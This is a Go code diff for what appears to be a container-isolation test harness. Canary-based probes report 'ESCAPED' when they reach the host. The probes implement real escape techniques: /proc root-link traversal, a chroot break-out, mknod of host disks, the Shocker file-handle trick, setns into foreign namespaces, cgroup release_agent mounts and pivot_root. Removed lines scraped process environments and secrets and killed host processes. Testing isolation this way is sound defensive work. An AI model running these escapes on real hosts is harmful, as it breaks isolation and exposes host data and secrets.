@@ -3,12 +3,12 @@ package containerfile
 import (
 	"encoding/binary"
 	"fmt"
-	"net"
+	"io/fs"
 	"os"
 	"path/filepath"
+	"runtime"
 	"strconv"
 	"strings"
-	"time"
 
 	"golang.org/x/sys/unix"
 )
@@ -27,39 +27,34 @@ func init() {
 }
 
 var attacks = map[string]func(value string){
-	"file": attackFile, "process": attackProcess, "secret": attackSecret, "loopback": attackLoopback, "memory": attackMemory,
-	"owned": makeOwned,
+	"file": attackFile, "nested": attackNested, "process": attackProcess, "secret": attackSecret, "kernel": attackKernel,
+	"loopback": attackLoopback, "socket": attackSocket, "memory": attackMemory, "key": attackKey,
+	"leave": leaveKey, "owned": makeOwned,
 }
 
 func escaped(how string, arguments ...any) { fmt.Printf("ESCAPED "+how+"\n", arguments...) }
 
+// roots are paths that may lead to the root of this machine.
+func roots() []string {
+	found := []string{""}
+	for _, pattern := range []string{"/proc/[0-9]*/root", "/proc/[0-9]*/cwd", "/proc/[0-9]*/fd/*"} {
+		links, _ := filepath.Glob(pattern)
+		for _, link := range links {
+			found = append(found, link, link+strings.Repeat("/..", 20))
+		}
+	}
+	return found
+}
+
 // attackFile looks for a file of the host, and writes one beside it.
 func attackFile(path string) {
-	try := func(how, root string) {
-		if data, err := os.ReadFile(root + path); err == nil && strings.Contains(string(data), "canary") {
-			escaped("%s: read %s", how, path)
-		}
-		if os.WriteFile(root+path+".written", nil, 0o600) == nil {
-			escaped("%s: wrote beside %s", how, path)
-		}
+	for _, root := range roots() {
+		lookFor(path, "by "+root, root)
 	}
-	// The writes are looked for outside: inside, the folder may be there and not be the host's.
-	quiet := func(root string) {
-		if data, err := os.ReadFile(root + path); err == nil && strings.Contains(string(data), "canary") {
-			try("by "+root, root)
-		}
-	}
-	quiet("")
-	links, _ := filepath.Glob("/proc/[0-9]*/root")
-	cwds, _ := filepath.Glob("/proc/[0-9]*/cwd")
-	fds, _ := filepath.Glob("/proc/[0-9]*/fd/*")
-	for _, link := range append(append(links, cwds...), fds...) {
-		quiet(link)
-		quiet(link + strings.Repeat("/..", 20))
-	}
-	attackDevices(path)
-	attackHandle(path)
+	attackDisks()
+	attackHandle()
 	attackNamespaces(path)
+	attackMounts(path)
 	// chroot without leaving the working directory: https://filippo.io/escaping-a-chroot-jail-slash-1/
 	if root, err := os.Open("/"); err == nil {
 		os.Mkdir("/jail", 0o755)
@@ -69,21 +64,47 @@ func attackFile(path string) {
 				os.Chdir("..")
 			}
 			if unix.Chroot(".") == nil {
-				quiet("")
+				lookFor(path, "by chroot", "")
 			}
 		}
 		os.Remove("/jail")
 	}
 }
 
-// attackDevices opens the disks of the machine.
-func attackDevices(path string) {
-	var root unix.Stat_t
-	unix.Stat("/", &root)
+// lookFor reads a file, and writes beside it where that is it.
+func lookFor(path, how, root string) {
+	if data, err := os.ReadFile(root + path); err != nil || !strings.Contains(string(data), "canary") {
+		return
+	}
+	escaped("%s: read %s", how, path)
+	if os.WriteFile(root+path+".written", nil, 0o600) == nil {
+		escaped("%s: wrote beside %s", how, path)
+	}
+}
+
+// attackDisks opens the disks of the machine.
+func attackDisks() {
 	os.MkdirAll("/tmp/dev", 0o755)
+	for i, number := range disks() {
+		node := fmt.Sprintf("/tmp/dev/%d", i)
+		if unix.Mknod(node, unix.S_IFBLK|0o600, int(number)) == nil {
+			escaped("made the disk %d:%d, and reads it: %v", unix.Major(number), unix.Minor(number), readsDisk(node))
+		}
+	}
+	os.RemoveAll("/tmp/dev")
+	filepath.WalkDir("/dev", func(path string, entry fs.DirEntry, err error) error {
+		if err == nil && entry.Type()&os.ModeDevice != 0 && entry.Type()&os.ModeCharDevice == 0 && readsDisk(path) {
+			escaped("read the disk %s", path)
+		}
+		return nil
+	})
+}
+
+// disks are those of all mounts that are to be seen.
+func disks() (numbers []uint64) {
 	for _, at := range []string{"/proc/self/mountinfo", "/proc/1/mountinfo"} {
 		mounts, _ := os.ReadFile(at)
-		for i, line := range strings.Split(string(mounts), "\n") {
+		for line := range strings.Lines(string(mounts)) {
 			fields := strings.Fields(line)
 			if len(fields) < 3 {
 				continue
@@ -91,34 +112,26 @@ func attackDevices(path string) {
 			major, minor, _ := strings.Cut(fields[2], ":")
 			ma, _ := strconv.Atoi(major)
 			mi, _ := strconv.Atoi(minor)
-			node := fmt.Sprintf("/tmp/dev/%d", i)
-			if ma == 0 || unix.Mknod(node, unix.S_IFBLK|0o600, int(unix.Mkdev(uint32(ma), uint32(mi)))) != nil {
-				continue
-			}
-			if f, err := os.Open(node); err == nil {
-				if n, _ := f.Read(make([]byte, 512)); n > 0 {
-					escaped("made and read the disk %s", fields[2])
-				}
-				f.Close()
+			if ma > 0 {
+				numbers = append(numbers, unix.Mkdev(uint32(ma), uint32(mi)))
 			}
 		}
 	}
-	os.RemoveAll("/tmp/dev")
-	filepath.Walk("/dev", func(path string, info os.FileInfo, err error) error {
-		if err == nil && info.Mode()&os.ModeDevice != 0 && info.Mode()&os.ModeCharDevice == 0 {
-			if f, err := os.Open(path); err == nil {
-				if n, _ := f.Read(make([]byte, 512)); n > 0 {
-					escaped("read the disk %s", path)
-				}
-				f.Close()
-			}
-		}
-		return nil
-	})
+	return numbers
+}
+
+func readsDisk(path string) bool {
+	f, err := os.Open(path)
+	if err != nil {
+		return false
+	}
+	defer f.Close()
+	n, _ := f.Read(make([]byte, 512))
+	return n > 0
 }
 
 // attackHandle opens the root of a file system by its inode: https://github.com/gabrtv/shocker
-func attackHandle(path string) {
+func attackHandle() {
 	for _, at := range []string{"/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/"} {
 		mount, err := unix.Open(at, unix.O_RDONLY, 0)
 		if err != nil {
@@ -134,96 +147,99 @@ func attackHandle(path string) {
 	}
 }
 
-// attackNamespaces enters those of others, and mounts.
+// attackNamespaces enters those of others.
 func attackNamespaces(path string) {
-	namespaces, _ := filepath.Glob("/proc/[0-9]*/ns/mnt")
-	mine, _ := os.Readlink("/proc/self/ns/mnt")
-	for _, link := range namespaces {
-		if its, _ := os.Readlink(link); its == "" || its == mine {
-			continue
-		}
-		if f, err := os.Open(link); err == nil {
-			if unix.Setns(int(f.Fd()), unix.CLONE_NEWNS) == nil {
-				escaped("entered %s", link)
+	for name, kind := range map[string]int{"mnt": unix.CLONE_NEWNS, "user": unix.CLONE_NEWUSER, "pid": unix.CLONE_NEWPID, "net": unix.CLONE_NEWNET, "ipc": unix.CLONE_NEWIPC, "uts": unix.CLONE_NEWUTS, "cgroup": unix.CLONE_NEWCGROUP} {
+		mine, _ := os.Readlink("/proc/self/ns/" + name)
+		namespaces, _ := filepath.Glob("/proc/[0-9]*/ns/" + name)
+		for _, link := range namespaces {
+			if its, _ := os.Readlink(link); its == "" || its == mine {
+				continue
 			}
-			f.Close()
+			onThread(func() {
+				f, err := os.Open(link)
+				if err != nil {
+					return
+				}
+				defer f.Close()
+				if unix.Setns(int(f.Fd()), kind) == nil {
+					escaped("entered %s", link)
+					lookFor(path, "in "+link, "")
+				}
+			})
 		}
-	}
-	if unix.Mount("tmpfs", "/mnt", "tmpfs", 0, "") == nil {
-		escaped("mounted")
 	}
 }
 
-// attackProcess sends signals to a process of the host, under every number that it may
-// have here, and looks into it.
-func attackProcess(value string) {
-	pid, _ := strconv.Atoi(value)
-	all, _ := filepath.Glob("/proc/[0-9]*/cmdline")
-	for _, path := range all {
-		if line, _ := os.ReadFile(path); strings.Contains(string(line), "sleep\x0086") {
-			escaped("sees the canary process at %s", path)
-		}
-	}
-	if err := unix.Kill(pid, 0); err == nil && pid > 1000 {
-		escaped("may kill %d", pid)
-		unix.Kill(pid, unix.SIGKILL)
-	}
-	if err := unix.PtraceAttach(pid); err == nil {
-		escaped("traces %d", pid)
-	}
-	if f, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid)); err == nil && pid > 1000 {
-		escaped("opened the memory of %d", pid)
-		f.Close()
-	}
+// onThread runs on a thread of its own, which ends.
+func onThread(do func()) {
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		runtime.LockOSThread()
+		unix.Unshare(unix.CLONE_FS)
+		do()
+	}()
+	<-done
 }
 
-// attackSecret looks for a text in the environment of every process, in its own, and in
-// what is mounted for secrets.
-func attackSecret(text string) {
-	environs, _ := filepath.Glob("/proc/[0-9]*/environ")
-	tasks, _ := filepath.Glob("/proc/[0-9]*/task/*/environ")
-	lines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
-	secrets, _ := filepath.Glob("/run/secrets/*")
-	for _, path := range append(append(append(environs, tasks...), lines...), secrets...) {
-		data, _ := os.ReadFile(path)
-		// Its own arguments have the text in them, after "secret=".
-		if strings.Contains(strings.ReplaceAll(string(data), "secret="+text, ""), text) {
-			escaped("read the secret in %s", path)
+// attackMounts mounts what leads to the machine, in a namespace of its own where it may.
+func attackMounts(path string) {
+	onThread(func() {
+		own := unix.Unshare(unix.CLONE_NEWNS) == nil
+		if own {
+			escaped("made a mount namespace")
+			unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, "")
 		}
-	}
-	if agent := os.Getenv("SSH_AUTH_SOCK"); agent != "" {
-		escaped("reaches the agent %s", agent)
-	}
-}
-
-// attackLoopback talks to a port of the host's loopback, and to an abstract socket of
-// the same number.
-func attackLoopback(port string) {
-	hosts := []string{"127.0.0.1", "127.1.2.3", "[::1]", "0.0.0.0", "localhost", "10.0.2.2", "10.0.2.3", "169.254.1.1", "169.254.1.2", "host.containers.internal", "host.docker.internal", "172.17.0.1"}
-	for _, host := range hosts {
-		if c, err := net.DialTimeout("tcp", host+":"+port, 2*time.Second); err == nil {
-			c.SetDeadline(time.Now().Add(2 * time.Second))
-			fmt.Fprint(c, "GET / HTTP/1.0\r\n\r\n")
-			answer := make([]byte, 1000)
-			n, _ := c.Read(answer)
-			if n > 0 {
-				escaped("reached %s:%s: %q", host, port, answer[:n])
+		os.MkdirAll("/mnt", 0o755)
+		for _, kind := range []string{"tmpfs", "proc", "sysfs", "devtmpfs", "cgroup2", "debugfs", "securityfs", "overlay"} {
+			if unix.Mount(kind, "/mnt", kind, 0, "") == nil {
+				escaped("mounted %s", kind)
+				unix.Unmount("/mnt", unix.MNT_DETACH)
 			}
-			c.Close()
 		}
-	}
-	if c, err := net.Dial("unix", "@canary-"+port); err == nil {
-		escaped("reached the abstract socket")
-		c.Close()
-	}
+		if unix.Mount("cgroup", "/mnt", "cgroup", 0, "memory") == nil {
+			escaped("mounted cgroup, with release_agent")
+			unix.Unmount("/mnt", unix.MNT_DETACH)
+		}
+		if unix.Mount("/", "/mnt", "", unix.MS_BIND|unix.MS_REC, "") == nil {
+			escaped("mounted the root")
+			if own && unix.PivotRoot("/mnt", "/mnt") == nil {
+				escaped("has another root")
+				lookFor(path, "behind another root", "")
+			}
+			unix.Unmount("/mnt", unix.MNT_DETACH)
+		}
+		if fd, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE|unix.AT_RECURSIVE); err == nil {
+			escaped("cloned the tree of mounts")
+			unix.Close(fd)
+		}
+		if fd, err := unix.Fsopen("proc", 0); err == nil {
+			escaped("opened a file system")
+			unix.Close(fd)
+		}
+		if unix.Unmount("/proc/kcore", unix.MNT_DETACH) == nil || unix.Unmount("/proc", unix.MNT_DETACH) == nil {
+			escaped("removed a mount")
+		}
+	})
+	attackNested(path)
 }
 
-// attackMemory looks for shared memory of the host: POSIX's and System V's.
-func attackMemory(name string) {
-	if data, err := os.ReadFile("/dev/shm/" + name); err == nil {
-		escaped("read shared memory: %s", data)
+// attackNested looks from within a user namespace that it makes, as nested where it is one.
+func attackNested(path string) {
+	if os.Getenv("NESTED") == "" {
+		startNested(path)
+		return
 	}
-	if table, _ := os.ReadFile("/proc/sysvipc/shm"); strings.Count(string(table), "\n") > 1 {
-		escaped("sees shared memory of others")
+	for i, number := range disks() {
+		node := fmt.Sprintf("/tmp/nested-%d", i)
+		if unix.Mknod(node, unix.S_IFBLK|0o600, int(number)) == nil {
+			escaped("made a disk in a namespace")
+		}
+		os.Remove(node)
+	}
+	unix.Mount("proc", "/proc", "proc", 0, "")
+	for _, root := range roots() {
+		lookFor(path, "in a namespace by "+root, root)
 	}
 }
